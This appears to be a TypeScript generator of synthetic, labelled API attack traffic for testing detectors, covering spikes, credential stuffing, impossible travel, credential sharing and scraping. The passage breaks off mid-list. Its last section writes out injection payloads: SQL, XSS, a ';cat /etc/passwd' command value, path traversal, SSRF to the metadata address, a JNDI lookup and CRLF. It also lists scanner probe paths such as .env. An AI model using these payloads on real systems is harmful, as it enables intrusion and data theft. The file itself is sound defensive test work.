import { dayMs, hourMs, minuteMs, profileOf, secondMs } from './calendar.ts';
import { Users } from './crowd.ts';
import {
  address,
  countries,
  countryOf,
  drawAddress,
  networks,
  networksOf,
  placeIndex,
  type NetworkKind,
} from './geo.ts';
import {
  act,
  agents,
  clientOf,
  fixedDevice,
  households,
  ipAt,
  person,
  sitting,
  sittings,
  steady,
  type Device,
  type Person,
} from './people.ts';
import type { Random } from './random.ts';
import type { Client, Query, Request } from './request.ts';
import { mixes, operations, request, routes, type Mix, type Route } from './site.ts';
import type { Label, Span, Stage } from './stage.ts';

/** Every attack that the catalogue says must alert, each once, with intensity and evasion drawn from the seed. */
export function addAttacks(stage: Stage): void {
  spikes(stage);
  stuffing(stage);
  travel(stage);
  sharing(stage);
  scraping(stage);
  parameters(stage);
}

const german = countryOf('DE').zone;
const inSpan = ([from, until]: Span, atMs: number): boolean => atMs >= from && atMs < until;

/** Attacks that last for days take at most this share of a short run. */
function atMost(stage: Stage, lengthMs: number, share = 0.4): number {
  return Math.min(lengthMs, share * stage.days * dayMs);
}

// ---- request spike ----

function spikes(stage: Stage): void {
  const attack = (number: number, title: string, parameters: Label['parameters'] = {}): Label =>
    stage.attack(`request-spike:${number}`, 'request-spike', title, parameters);
  /** The victims' own past: long enough to be learnt, short enough to be cheap. */
  const past = (atMs: number, leastDays = 0): number =>
    Math.max(stage.startMs, atMs - Math.max(stage.pastDays, leastDays) * dayMs);
  const after = (atMs: number): number => Math.min(stage.endMs, atMs + 3 * hourMs);
  /** A steady consumer whose rate is multiplied within the span; all it sends in the span belongs to the attack. */
  const multiplied = (
    name: string,
    perMinute: number,
    span: Span,
    factor: number,
    label: Label,
    pulse: (atMs: number) => boolean = () => true,
  ): void => {
    const on = (atMs: number): boolean => inSpan(span, atMs) && pulse(atMs);
    steady(stage, name, perMinute, {
      // Five days at least: a run that is short in everything else finds the plainest spikes.
      from: past(span[0], 5),
      until: after(span[1]),
      mostFactor: factor,
      factor: (at) => (on(at) ? factor : 1),
      labelAt: (at) => (on(at) ? label : null),
    });
  };

  {
    const random = stage.random('spike 1');
    const factor = random.between(5, 7);
    const at = stage.workday(random, german, random.between(11, 15));
    const label = attack(1, '×5 for 10 min on one consumer at peak', { factor: round(factor) });
    multiplied('victim-peak', 25, [at, at + 10 * minuteMs], factor, label);
  }
  {
    const random = stage.random('spike 2');
    const at = stage.workday(random, german, 3, 0.5);
    const span: Span = [at, at + 20 * minuteMs];
    const label = attack(2, '×5 at 03:00, below the daytime maximum', { factor: 5, minutes: 20 });
    steady(stage, 'victim-night', 70, {
      from: past(at),
      until: at + 3 * hourMs,
      profile: profileOf(german, 8, 13, 0.6, 4),
      mostFactor: 1,
      // At the trough the rate is an eighth of the peak's; five times that is still below it.
      factor: (time) => (inSpan(span, time) ? 5 : 1),
      labelAt: (time) => (inSpan(span, time) ? label : null),
    });
  }
  const expensive: Mix = [...mixes.server, [operations.render, 0.4]];
  for (const [number, name, minutes, share] of [
    [3, 'victim-endpoint', 15, 0.9],
    [9, 'victim-cost', 60, 0.75],
  ] as const) {
    const random = stage.random(`spike ${number}`);
    const at = stage.workday(random, german, random.between(11, 14));
    const span: Span = [at, at + minutes * minuteMs];
    const title =
      number === 3
        ? 'spike on one endpoint only, total within normal'
        : 'calls shift to an expensive endpoint';
    const label = attack(number, title, { share, minutes });
    steady(stage, name, 20, {
      mix: number === 3 ? mixes.server : expensive,
      from: past(at),
      until: after(span[1]),
      operation: (time, who) =>
        inSpan(span, time) && who.random.chance(share)
          ? number === 3
            ? operations.transfer
            : operations.render
          : undefined,
      labelAt: (time) => (inSpan(span, time) ? label : null),
    });
  }
  {
    const random = stage.random('spike 4');
    const lengthMs = 3 * dayMs;
    const from = stage.day(random.between(0.5, 0.65));
    const span: Span = [from, Math.min(from + lengthMs, stage.endMs)];
    const label = attack(4, 'slow ramp, +5 %/h for 3 days', { growthPerHour: 1.05 });
    const factor = (at: number): number => 1.05 ** ((at - from) / hourMs);
    steady(stage, 'victim-ramp', 4, {
      from: past(from),
      until: span[1],
      mostFactor: 34,
      factor: (at) => (inSpan(span, at) ? factor(at) : 1),
      labelAt: (at) => (inSpan(span, at) ? label : null),
    });
  }
  {
    const random = stage.random('spike 5');
    const at = stage.workday(random, german, 10);
    const factor = random.between(10, 16);
    const label = attack(5, 'pulsing: 1 min on, 9 min off', { factor: round(factor), hours: 3 });
    const phase = random.int(10);
    multiplied(
      'victim-pulses',
      12,
      [at, at + 3 * hourMs],
      factor,
      label,
      (time) => (Math.floor(time / minuteMs) + phase) % 10 === 0,
    );
  }
  {
    const random = stage.random('spike 6');
    const at = stage.workday(random, german, random.between(9, 16));
    const keys = 200;
    const label = attack(6, 'spike spread over 200 keys of one tenant and network', {
      keys,
      callsPerKey: 30,
      minutes: 30,
    });
    const [cloud] = networksOf('hosting');
    for (let key = 0; key < keys; key++) {
      const who = person(stage, `tenant-key-${key}`, {
        tags: ['tenant-blue'],
        devices: (client, own) => [
          fixedDevice(client('axios/1.7.2'), drawAddress(cloud!, own, placeIndex(cloud!, 'DE'))),
        ],
      });
      sittings(stage, who, 6, [stage.startMs, stage.endMs], { perMinute: 4, meanMs: minuteMs });
      stage.poisson(who.random, [at, at + 30 * minuteMs], 1, null, (time) =>
        stage.send(
          act(stage, who, who.devices[0]!, who.devices[0]!.ip(), time, operations.listOrders),
          label,
        ),
      );
    }
  }
  {
    const random = stage.random('spike 7');
    const at = stage.workday(random, german, 10);
    const span: Span = [at, at + 6 * hourMs];
    const label = attack(7, 'sudden stop of a steady consumer', { hours: 6 });
    label.optional = true;
    const who = steady(stage, 'victim-stops', 8, {
      from: past(at),
      until: after(span[1]),
      factor: (time) => (inSpan(span, time) ? 0 : 1),
    });
    // Nothing of it is a request.
    [label.startedAt, label.endedAt] = span;
    label.actors.add(`consumer:${who.consumer.id}`);
  }
  {
    const random = stage.random('spike 8');
    const at = stage.workday(random, german, random.between(10, 15));
    const span: Span = [at, at + 30 * minuteMs];
    const factor = 20 + random.int(20);
    const label = attack(8, 'bytes and latency rise, count does not', { factor, minutes: 30 });
    steady(stage, 'victim-bytes', 10, {
      from: past(at),
      until: after(span[1]),
      labelAt: (time) => (inSpan(span, time) ? label : null),
      change: (one) => {
        if (!inSpan(span, one.startedAt)) return;
        one.responseBytes *= factor;
        one.latencyMs *= factor;
      },
    });
  }
  {
    const random = stage.random('spike 10');
    const first = stage.workday(random, german, 15, 0.4, 0.65);
    const days = Math.min(4, Math.floor((stage.endMs - first) / dayMs));
    const spans = Array.from({ length: days }, (_, day): Span => [
      first + day * dayMs,
      first + day * dayMs + 10 * minuteMs,
    ]);
    const labels = spans.map((_, day) =>
      attack(10, 'the same spike on consecutive days', { day: day + 1, factor: 6 }),
    );
    const which = (time: number): number => spans.findIndex((span) => inSpan(span, time));
    // Flat, so that the weekend's spikes are as high.
    steady(stage, 'victim-daily', 12, {
      profile: profileOf(german, 2, 13, 1),
      from: past(first),
      until: first + days * dayMs,
      mostFactor: 6,
      factor: (time) => (which(time) < 0 ? 1 : 6),
      labelAt: (time) => labels[which(time)] ?? null,
    });
  }
}

// ---- credential stuffing and brute force ----

function stuffing(stage: Stage): void {
  // On one endpoint everything within a day is one episode, so those that last, or come in numbers, have one of their own.
  const main = new Users(stage);
  const attack = (number: number, title: string, parameters: Label['parameters'] = {}): Label =>
    stage.attack(
      `credential-stuffing:${number}`,
      number === 1 || number === 8 ? 'brute-force' : 'credential-stuffing',
      title,
      parameters,
    );
  const abroad = ['VN', 'NG', 'BR', 'IN', 'PL', 'US'];
  const victim = (users: Users, random: Random): number => random.int(users.count);
  const clientFor = (random: Random, rotating: boolean): (() => Client) => {
    const one = clientOf(null, random.pick(agents.tool), random);
    return rotating
      ? () => clientOf(null, random.pick([...agents.browser, ...agents.phone, ...agents.tool]), random)
      : () => one;
  };
  const ipIn = (random: Random, kind: NetworkKind, homes: readonly string[]): string =>
    drawAddress(random.pick(networksOf(kind, random.pick(homes))), random);
  const drawn = (random: Random, low = 0.4, high = 0.9): number =>
    stage.workday(random, german, random.between(8, 20), low, high);

  {
    const random = stage.random('stuffing 1');
    const users = main;
    const at = drawn(random);
    const label = attack(1, 'one address, one account, 300 failures an hour');
    const [ip, client, target] = [
      ipIn(random, 'hosting', abroad),
      clientFor(random, false),
      victim(users, random),
    ];
    stage.every(random, [at, at + hourMs], 12 * secondMs, 0.9, (time) =>
      stage.send(users.login(target, ip, client(), time, false, random), label),
    );
  }
  {
    const random = stage.random('stuffing 2');
    const users = main;
    const at = drawn(random, 0.4, 0.6);
    const rotating = random.chance(0.5);
    const label = attack(2, 'one address, 500 accounts, 1 or 2 tries each', {
      agents: rotating ? 'rotating' : 'one',
    });
    const [ip, client] = [ipIn(random, 'hosting', abroad), clientFor(random, rotating)];
    stage.every(random, [at, at + 750 * 4 * secondMs], 4 * secondMs, 0.9, (time) =>
      stage.send(
        users.login(
          Math.floor(((time - at) / (6 * secondMs)) % users.count),
          ip,
          client(),
          time,
          false,
          random,
        ),
        label,
      ),
    );
  }
  {
    const random = stage.random('stuffing 3');
    const users = main;
    const accounts = Math.min(5_000, users.count);
    const at = drawn(random, 0.75, 0.9);
    const label = attack(3, 'spraying: many accounts, one try per account and hour', {
      accounts,
      addresses: 50,
      hours: 2,
    });
    const client = clientFor(random, false);
    const ips = Array.from({ length: 50 }, () => ipIn(random, 'residential', abroad));
    stage.every(random, [at, at + 2 * hourMs], hourMs / accounts, 0.9, (time) =>
      stage.send(
        users.login(
          Math.floor(((time - at) / hourMs) * accounts) % accounts,
          random.pick(ips),
          client(),
          time,
          false,
          random,
        ),
        label,
      ),
    );
  }
  /** Poisson tries at `perMinute`, each address used `triesPerAddress` times on average; returns nothing, sends all. */
  const distributed = (
    users: Users,
    random: Random,
    label: Label,
    span: Span,
    perMinute: number,
    share: ((atMs: number) => number) | null,
    options: { triesPerAddress: number; homes: readonly string[]; rotating: boolean; success?: number },
  ): void => {
    const client = clientFor(random, options.rotating);
    let ip = ipIn(random, 'residential', options.homes);
    stage.poisson(random, span, perMinute, share, (time) => {
      if (random.chance(1 / options.triesPerAddress)) ip = ipIn(random, 'residential', options.homes);
      const index = victim(users, random);
      const right = random.chance(options.success ?? 0);
      const used = client();
      stage.send(users.login(index, ip, used, time, right, random), label);
      if (right) users.reads(index, ip, used, time, random, (one) => stage.send(one, label));
    });
  };
  {
    const random = stage.random('stuffing 4');
    const users = new Users(stage, 'acme');
    const at = drawn(random);
    const rotating = random.chance(0.5);
    const label = attack(4, 'distributed, 1.18 tries per address, ×4 of normal', {
      agents: rotating ? 'rotating' : 'one',
      hours: 1,
    });
    distributed(users, random, label, [at, at + hourMs], Math.max(4, 3 * users.perMinute), null, {
      triesPerAddress: 1.18,
      homes: abroad,
      rotating,
    });
  }
  {
    const random = stage.random('stuffing 5');
    const users = new Users(stage, 'borealis');
    const lengthMs = atMost(stage, 6 * dayMs);
    const from = stage.day(random.between(0.4, 0.55));
    const label = attack(
      5,
      '5.4 tries per address over days, ×20 at the peak, residential networks at home',
      { days: lengthMs / dayMs },
    );
    // Twenty times for half an hour a day, else as many as the users themselves.
    const share = (time: number): number =>
      (time - from) % dayMs > 14 * hourMs && (time - from) % dayMs < 14.5 * hourMs ? 1 : 0.05;
    distributed(users, random, label, [from, from + lengthMs], 20 * users.perMinute, share, {
      triesPerAddress: 5.4,
      homes: ['DE', 'NL', 'FR'],
      rotating: true,
    });
  }
  {
    const random = stage.random('stuffing 6');
    const users = new Users(stage, 'corvus');
    const label = attack(6, 'low and slow: 130 addresses, 1 to 10 tries a day, for weeks', {
      addresses: 130,
    });
    const [from, until] = [stage.day(0.2), stage.day(0.95)];
    const client = clientFor(random, false);
    for (let one = 0; one < 130; one++) {
      const ip = ipIn(random, 'residential', abroad);
      stage.poisson(random, [from, until], (1 + random.int(10)) / 1_440, null, (time) =>
        stage.send(
          users.login(victim(users, random), ip, client(), time, random.chance(0.003), random),
          label,
        ),
      );
    }
  }
  {
    const random = stage.random('stuffing 7');
    const users = new Users(stage, 'delta');
    const at = drawn(random);
    const success = random.between(0.008, 0.02);
    const label = attack(7, '0.1 to 2 % succeed, then the accounts are read', {
      success: round(success),
      tries: 1_500,
    });
    distributed(users, random, label, [at, at + 2 * hourMs], 12.5, null, {
      triesPerAddress: 5,
      homes: abroad,
      rotating: true,
      success,
    });
  }
  {
    const random = stage.random('stuffing 8');
    const at = drawn(random);
    const addresses = random.pick([1, 5, 20]);
    const label = attack(8, 'API key guessing: many unknown keys', { addresses });
    const ips = Array.from({ length: addresses }, () => ipIn(random, 'hosting', abroad));
    const client = clientFor(random, false);
    stage.every(random, [at, at + 1_000 * 2 * secondMs], 2 * secondMs, 0.9, (time) => {
      const one = request(
        client(),
        random.pick(ips),
        time,
        routes.orders,
        'GET',
        '/orders',
        null,
        random,
        350,
        2,
      );
      stage.send(
        Object.assign(one, { status: 401, byKong: true, wrongKey: `guess-${random.hex(20)}` }),
        label,
      );
    });
  }
  {
    const random = stage.random('stuffing 9');
    const users = new Users(stage, 'eos');
    const at = drawn(random);
    const rotating = random.chance(0.5);
    const label = attack(9, 'rotating user agents, or one for all', {
      agents: rotating ? 'rotating' : 'one',
      addresses: 100,
    });
    const ips = Array.from({ length: 100 }, () => ipIn(random, 'hosting', abroad));
    const client = clientFor(random, rotating);
    stage.every(random, [at, at + hourMs], hourMs / 600, 0.9, (time) =>
      stage.send(users.login(victim(users, random), random.pick(ips), client(), time, false, random), label),
    );
  }
  {
    const random = stage.random('stuffing 10');
    const users = new Users(stage, 'fjord');
    const at = stage.workday(random, german, 8.6);
    const label = attack(10, 'hidden in the login peak of the morning', {
      perMinute: round(Math.max(3, users.perMinute)),
    });
    distributed(users, random, label, [at, at + hourMs], Math.max(3, users.perMinute), null, {
      triesPerAddress: 1.5,
      homes: abroad,
      rotating: true,
    });
  }
  {
    const random = stage.random('stuffing 11');
    const users = new Users(stage, 'gaia');
    const at = drawn(random);
    const label = attack(11, 'success only: a verified list, each from a new network', {
      accounts: 60,
      hours: 6,
    });
    const client = clientFor(random, false);
    stage.every(random, [at, at + 6 * hourMs], 6 * minuteMs, 0.9, (time) => {
      const [index, ip, used] = [victim(users, random), ipIn(random, 'residential', abroad), client()];
      stage.send(users.login(index, ip, used, time, true, random), label);
      users.reads(index, ip, used, time, random, (one) => stage.send(one, label));
    });
  }
}

// ---- impossible travel ----

/** Somebody with a usual place, seen often enough to be known. */
function resident(stage: Stage, name: string, country: string, city: string, callsPerDay = 60): Person {
  const who = person(stage, name, {
    country,
    mix: mixes.app,
    devices: (client, random) => [
      fixedDevice(client(random.pick(agents.browser)), ipAt(random, 'residential', country, city)),
    ],
  });
  sittings(stage, who, callsPerDay, [stage.startMs, stage.endMs], { perMinute: 5, meanMs: 4 * minuteMs });
  return who;
}

function thief(who: Person, kind: NetworkKind, country: string, city: string, userAgent: string): Device {
  return fixedDevice(clientOf(who.consumer, userAgent, who.random), ipAt(who.random, kind, country, city));
}

function travel(stage: Stage): void {
  const attack = (number: number, title: string, parameters: Label['parameters'] = {}): Label =>
    stage.attack(`impossible-travel:${number}`, 'impossible-travel', title, parameters);
  const steal = (
    number: number,
    title: string,
    home: [country: string, city: string],
    there: [kind: NetworkKind, country: string, city: string, userAgent: string],
    gapMs: number,
    before: (who: Person, device: Device, atMs: number, label: Label) => void = () => undefined,
  ): void => {
    const label = attack(number, title, { from: home[1], to: there[2], minutes: round(gapMs / minuteMs) });
    const who = resident(stage, `traveller-${number}`, ...home);
    const device = thief(who, ...there);
    stage.at([stage.workday(who.random, countryOf(home[0]).zone, 9 + who.random.int(4))], (atMs) => {
      // The owner was there just before.
      sitting(stage, who, who.devices[0]!, atMs, 40 * secondMs, 6);
      before(who, device, atMs + gapMs - 30 * secondMs, label);
      sitting(stage, who, device, atMs + gapMs, 4 * minuteMs, 6, label);
    });
  };
  steal(
    1,
    '5,900 km within 10 min, both residential, new user agent',
    ['NO', 'Oslo'],
    ['residential', 'US', 'New York', agents.tool[0]],
    10 * minuteMs,
  );
  steal(
    3,
    'slow: 10,800 km in 6 h',
    ['GB', 'London'],
    ['residential', 'SG', 'Singapore', agents.tool[1]],
    6 * hourMs,
  );
  steal(
    4,
    'hosting network in another country right after guessing the key',
    ['NL', 'Amsterdam'],
    ['hosting', 'US', 'Seattle', agents.tool[2]],
    20 * minuteMs,
    (who, device, atMs, label) => {
      for (let tries = 0; tries < 25; tries++) {
        const client = clientOf(null, device.client.userAgent, who.random);
        const one = request(
          client,
          device.ip(),
          atMs + tries * secondMs,
          routes.orders,
          'GET',
          '/orders',
          null,
          who.random,
          350,
          2,
        );
        stage.send(
          Object.assign(one, { status: 401, byKong: true, wrongKey: `guess-${who.random.hex(20)}` }),
          label,
        );
      }
    },
  );
  steal(
    5,
    'token replay: same key, other class of network and user agent within 60 s',
    ['FR', 'Paris'],
    ['hosting', 'SG', 'Singapore', agents.tool[5]],
    minuteMs,
  );
  steal(
    6,
    'same country, 1,750 km in 5 min',
    ['US', 'New York'],
    ['residential', 'US', 'Miami', agents.tool[3]],
    5 * minuteMs,
  );
  {
    const label = attack(2, 'interleaved use A-B-A-B within one hour', { turns: 6 });
    const who = resident(stage, 'traveller-2', 'DE', 'Berlin');
    const device = thief(who, 'residential', 'BR', 'Sao Paulo', agents.phone[0]);
    stage.at([stage.workday(who.random, german, 14)], (atMs) => {
      for (let turn = 0; turn < 6; turn++) {
        sitting(stage, who, who.devices[0]!, atMs + turn * 9 * minuteMs, minuteMs, 5);
        sitting(stage, who, device, atMs + (turn * 9 + 4) * minuteMs, minuteMs, 5, label);
      }
    });
  }
}

// ---- credential sharing ----

function sharing(stage: Stage): void {
  const attack = (number: number, title: string, parameters: Label['parameters'] = {}): Label =>
    stage.attack(`credential-sharing:${number}`, 'credential-sharing', title, parameters);
  const daysMs = atMost(stage, 3 * dayMs, 0.3);
  const from = (random: Random): number => stage.day(random.between(0.5, 0.65));
  const others = (who: Person, list: readonly [country: string, userAgent: string][]): Device[] =>
    list.map(([country, userAgent]) =>
      thief(who, 'residential', country, countryOf(country).cities[0]![0], userAgent),
    );

  {
    const who = resident(stage, 'shared-1', 'DE', 'Cologne');
    const start = from(who.random);
    const label = attack(1, 'one key from 5 networks in 3 countries and more at once, for days', {
      networks: 6,
    });
    const devices = others(who, [
      ['FR', agents.tool[1]],
      ['US', agents.tool[0]],
      ['IN', agents.phone[0]],
      ['BR', agents.browser[0]],
      ['PL', agents.server[2]],
      ['VN', agents.phone[3]],
    ]);
    stage.poisson(who.random, [start, start + daysMs], 1 / 40, null, (atMs) => {
      for (const device of devices)
        sitting(stage, who, device, atMs + who.random.next() * 90 * secondMs, 3 * minuteMs, 3, label);
    });
  }
  {
    const who = resident(stage, 'shared-2', 'ES', 'Madrid');
    const start = from(who.random);
    const label = attack(2, 'key leaked publicly: 50 networks within a day, many user agents', {
      networks: 50,
    });
    const all = networks.filter((network) => network.kind !== 'mobile').slice(0, 50);
    stage.poisson(who.random, [start, start + dayMs], 0.3, null, (atMs) => {
      const client = clientOf(
        who.consumer,
        who.random.pick([...agents.tool, ...agents.server, ...agents.browser]),
        who.random,
      );
      sitting(
        stage,
        who,
        fixedDevice(client, drawAddress(who.random.pick(all), who.random)),
        atMs,
        minuteMs,
        5,
        label,
      );
    });
  }
  {
    const who = resident(stage, 'shared-3', 'NL', 'Utrecht');
    const start = from(who.random);
    const label = attack(3, 'resale: around the clock in 3 time zones where one was usual', { zones: 3 });
    for (const device of others(who, [
      ['US', agents.browser[0]],
      ['JP', agents.browser[1]],
      ['IN', agents.browser[2]],
    ]))
      stage.poisson(who.random, [start, start + daysMs], 1 / 90, null, (atMs) =>
        sitting(stage, who, device, atMs, 5 * minuteMs, 4, label),
      );
  }
  {
    const who = resident(stage, 'shared-4', 'PL', 'Krakow');
    const start = from(who.random);
    const label = attack(4, 'two client stacks with interleaved sessions', { stacks: 2 });
    const [network] = networksOf('residential', 'PL');
    const client = clientOf(who.consumer, agents.server[0], who.random);
    const device = fixedDevice(client, address(network!, placeIndex(network!, 'Krakow'), 190, 77));
    stage.poisson(who.random, [start, start + daysMs], 1 / 15, null, (atMs) => {
      sitting(stage, who, who.devices[0]!, atMs, 2 * minuteMs, 4);
      sitting(stage, who, device, atMs + 20 * secondMs, 2 * minuteMs, 8, label);
    });
  }
  {
    const who = resident(stage, 'shared-5', 'FR', 'Lille');
    const start = from(who.random);
    const days = Math.floor(Math.min(8, 0.35 * stage.days));
    const label = attack(5, 'slow leak: one more network each day', { days });
    const devices = others(
      who,
      ['BR', 'IN', 'VN', 'NG', 'US', 'PL', 'JP', 'ZA'].map(
        (country, index) => [country, agents.phone[index % 4]!] as [string, string],
      ),
    );
    for (let day = 0; day < days; day++)
      stage.poisson(who.random, [start + day * dayMs, start + days * dayMs], 6 / 1_440, null, (atMs) =>
        sitting(stage, who, devices[day]!, atMs, 4 * minuteMs, 4, label),
      );
  }
}

// ---- scraping and object enumeration ----

function scraping(stage: Stage): void {
  const attack = (number: number, title: string, parameters: Label['parameters'] = {}): Label =>
    stage.attack(
      `scraping:${number}`,
      number === 7 || number === 8 ? 'data-scraping' : number === 11 ? 'path-probing' : 'object-enumeration',
      title,
      parameters,
    );
  const insider = (number: number): Person => {
    const who = person(stage, `scraper-${number}`, {
      country: 'PL',
      mix: mixes.app,
      devices: households.servers('PL'),
    });
    sittings(stage, who, 40, [stage.startMs, stage.endMs], { perMinute: 5 });
    return who;
  };
  const when = (random: Random, low = 0.45, high = 0.85): number =>
    stage.day(random.between(low, high)) + random.int(24) * hourMs;
  const get = (
    who: Person,
    atMs: number,
    at: Route,
    path: string,
    query: Query | null = null,
    bytes = 700,
  ): Request => {
    const device = who.devices[0]!;
    return request(device.client, device.ip(), atMs, at, 'GET', path, query, who.random, bytes);
  };
  const walk = (
    who: Person,
    label: Label,
    count: number,
    gapMs: number,
    of: (index: number, atMs: number) => Request,
  ): void => {
    const from = when(who.random);
    let index = 0;
    stage.every(who.random, [from, from + count * gapMs], gapMs, 0.5, (atMs) =>
      stage.send(of(index++, atMs), label),
    );
  };
  const shuffled = (random: Random, count: number): number[] => {
    const list = Array.from({ length: count }, (_, index) => index);
    for (let at = count - 1; at > 0; at--) {
      const other = random.int(at + 1);
      [list[at], list[other]] = [list[other]!, list[at]!];
    }
    return list;
  };

  const one = insider(1);
  walk(one, attack(1, 'sequential ids at 1/s, all 200', { ids: 2_000 }), 2_000, secondMs, (index, at) =>
    get(one, at, routes.users, `/accounts/users/${1_001 + index}`),
  );
  const two = insider(2);
  const order = shuffled(two.random, 2_000);
  walk(two, attack(2, 'the same in random order', { ids: 2_000 }), 2_000, secondMs, (index, at) =>
    get(two, at, routes.users, `/accounts/users/${1_001 + order[index]!}`),
  );
  const three = insider(3);
  const way = three.random.pick(['strided', 'reversed', 'interleaved']);
  walk(
    three,
    attack(3, 'strided, reversed, or interleaved over endpoints', { order: way, ids: 1_500 }),
    1_500,
    1_500,
    (index, at) => {
      const id =
        way === 'strided' ? 1_000 + index * 7 : way === 'reversed' ? 9_000 - index : 1_000 + (index >> 1);
      const second = way === 'interleaved' && index % 2 === 1;
      return second
        ? get(three, at, routes.support, `/tickets/${id}`)
        : get(three, at, routes.users, `/accounts/users/${id}`);
    },
  );
  const four = insider(4);
  const slow = atMost(stage, 5 * dayMs);
  {
    const label = attack(4, 'low and slow: one id per minute for days', { days: slow / dayMs });
    const from = stage.day(four.random.between(0.4, 0.55));
    let index = 0;
    stage.every(four.random, [from, from + slow], minuteMs, 0.7, (atMs) =>
      stage.send(get(four, atMs, routes.users, `/accounts/users/${20_000 + index++}`), label),
    );
  }
  const five = insider(5);
  walk(five, attack(5, 'guessing: 70 % are 403 or 404', { ids: 1_000 }), 1_000, 2 * secondMs, (_, at) => {
    const guess = get(five, at, routes.orders, `/orders/${five.random.int(2_000_000)}`);
    if (five.random.chance(0.7)) guess.status = five.random.pick([403, 404]);
    return guess;
  });
  {
    const random = stage.random('scraping 6');
    const over = random.pick(['keys', 'addresses']);
    const label = attack(6, 'split over 40 keys or 2,000 residential addresses', { over });
    const from = when(random);
    if (over === 'keys') {
      for (let key = 0; key < 40; key++) {
        const who = insider(600 + key);
        let index = 0;
        stage.every(random, [from, from + 3 * hourMs], 3.6 * minuteMs, 0.9, (atMs) =>
          stage.send(get(who, atMs, routes.users, `/accounts/users/${30_000 + index++ * 40 + key}`), label),
        );
      }
    } else {
      const client = clientOf(null, agents.browser[0], random);
      let index = 0;
      stage.every(random, [from, from + 2 * hourMs], 2 * secondMs, 0.9, (atMs) => {
        const ip = drawAddress(random.pick(networksOf('residential', random.pick(countries).code)), random);
        const path = `/catalog/products/${30_000 + index++}`;
        stage.send(request(client, ip, atMs, routes.products, 'GET', path, null, random, 1_500), label);
      });
    }
  }
  const seven = insider(7);
  walk(seven, attack(7, 'deep pagination, bytes ×20', { pages: 200 }), 200, 10 * secondMs, (index, at) =>
    get(seven, at, routes.orders, '/orders', { page: String(index + 1), limit: '10000' }, 80_000),
  );
  const eight = insider(8);
  walk(
    eight,
    attack(8, 'many ids in one request', { requests: 200, idsPerRequest: 50 }),
    200,
    8 * secondMs,
    (index, at) =>
      get(
        eight,
        at,
        routes.orders,
        '/orders',
        { ids: Array.from({ length: 50 }, (_, id) => 400_000 + index * 50 + id).join(',') },
        30_000,
      ),
  );
  const nine = insider(9);
  walk(nine, attack(9, 'ids in path, query and header', { ids: 900 }), 900, 2 * secondMs, (index, at) => {
    const id = String(40_000 + index);
    if (index % 3 === 0) return get(nine, at, routes.users, `/accounts/users/${id}`);
    if (index % 3 === 1) return get(nine, at, routes.accounts, '/accounts/summary', { account: id });
    return Object.assign(get(nine, at, routes.accounts, '/accounts/me'), { accountHeader: id });
  });
  const ten = insider(10);
  walk(ten, attack(10, 'nested, with foreign accounts', { accounts: 600 }), 1_200, 1_500, (index, at) =>
    get(ten, at, routes.accounts, `/accounts/${50_000 + (index >> 1)}/tx/${1 + (index & 1)}`),
  );
  {
    const random = stage.random('scraping 11');
    const label = attack(11, 'vulnerability scanner over unknown paths', { paths: 400 });
    const client = clientOf(
      null,
      random.pick(['Mozilla/5.0 zgrab/0.x', 'sqlmap/1.8', agents.tool[0]]),
      random,
    );
    const ip = ipAt(random, 'hosting', 'US', 'Miami');
    const from = when(random);
    const names = [
      'wp-login.php',
      '.env',
      '.git/config',
      'phpmyadmin',
      'actuator/env',
      'server-status',
      'backup.zip',
      'admin',
      'config.json',
      'cgi-bin/test',
    ];
    stage.every(random, [from, from + 5 * minuteMs], 750, 0.9, (atMs) => {
      const path = `/${random.pick(['', 'old/', 'app/', 'v1/', 'site/'])}${random.pick(names)}${random.pick(['', '~', '.bak', `-${random.int(50)}`])}`;
      const probe = request(client, ip, atMs, null, 'GET', path, null, random, 350, 1);
      stage.send(Object.assign(probe, { status: random.chance(0.9) ? 404 : 403, byKong: true }), label);
    });
  }
  {
    const random = stage.random('scraping 12');
    const label = attack(12, 'user names told apart by 200 and 404', { names: 1_500 });
    const client = clientOf(null, random.pick(agents.tool), random);
    const ip = ipAt(random, 'hosting', 'NL', 'Rotterdam');
    const from = when(random);
    let index = 0;
    stage.every(random, [from, from + 1_500 * 1_500], 1_500, 0.5, (atMs) => {
      const asked = request(
        client,
        ip,
        atMs,
        routes.accounts,
        'GET',
        '/accounts/available',
        { username: `candidate${index++}` },
        random,
        250,
        15,
      );
      stage.send(Object.assign(asked, { status: random.chance(0.15) ? 200 : 404 }), label);
    });
  }
}

// ---- abnormal parameters ----

function parameters(stage: Stage): void {
  const get =
    (path: string, at: Route, query: Query): ((random: Random) => [Route, string, string, Query | null]) =>
    () => [at, 'GET', path, query];
  const list = (query: Query) => get('/orders', routes.orders, query);
  const variants: readonly [
    title: string,
    of: readonly ((random: Random) => [Route, string, string, Query | null])[],
  ][] = [
    [
      'injection into a number or an enum',
      [
        list({ page: "1' OR '1'='1", limit: '20' }),
        list({ page: '1', limit: '20', status: '<script>alert(1)</script>' }),
        list({ page: '1;cat /etc/passwd', limit: '20' }),
        get('/files', routes.files, { path: '../../../../etc/passwd' }),
      ],
    ],
    [
      'another type: letters in an id',
      [
        list({ page: 'abc', limit: '20' }),
        (random) => [routes.orders, 'GET', `/orders/abc${random.int(9)}x7y1`, null],
      ],
    ],
    [
      'another magnitude',
      [
        list({ page: '1', limit: '1000000' }),
        () => [routes.payments, 'POST', '/payments/transfers', { amount: '-1', currency: 'EUR' }],
        () => [routes.payments, 'POST', '/payments/transfers', { amount: '98000000.00', currency: 'EUR' }],
      ],
    ],
    [
      'twenty times as long',
      [
        list({ page: '1', limit: '20', sort: 'date'.repeat(20) }),
        get('/catalog/products', routes.products, { category: 'x'.repeat(160), page: '1' }),
      ],
    ],
    [
      'double encoding, null byte, line breaks',
      [
        get('/files', routes.files, { path: '%252e%252e%252fsecret' }),
        get('/files', routes.files, { path: 'public/a\u0000.png' }),
        list({ page: '1', limit: '20', sort: 'date\r\nSet-Cookie: a=b' }),
      ],
    ],
    ['parameter pollution', [list({ page: ['1', '2', '3'], limit: ['20', '5000'] })]],
    [
      'unknown parameter, mass assignment',
      [
        list({ page: '1', limit: '20', role: 'admin' }),
        () => [
          routes.payments,
          'POST',
          '/payments/transfers',
          { amount: '10.00', currency: 'EUR', approved: 'yes' },
        ],
      ],
    ],
    [
      'a URL where a relative path was',
      [
        get('/files', routes.files, { path: 'http://169.254.169.254/latest/meta-data/' }),
        get('/files', routes.files, { path: '//internal.example.net/admin' }),
      ],
    ],
    [
      'template and lookup strings',
      [
        list({ page: '1', limit: '20', status: '${jndi:ldap://x.example.net/a}' }),
        list({ page: '{{7*7}}', limit: '20' }),
      ],
    ],
    [
      'suffix of hidden files',
      [
